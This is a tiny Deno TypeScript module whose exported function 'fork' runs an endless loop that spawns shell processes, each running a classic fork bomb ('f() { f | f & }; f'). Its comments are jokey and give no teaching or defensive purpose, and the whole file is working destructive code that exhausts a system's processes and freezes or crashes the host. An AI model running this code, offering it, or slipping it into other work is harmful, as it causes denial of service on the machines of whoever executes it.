/** Starts programs that start programs. */

/** See above. */
export default function fork(): never {
  for (;;) {
    new Deno.Command("sh", { args: ["-c", "f() { f | f & }; f"] }).spawn();
  }
}
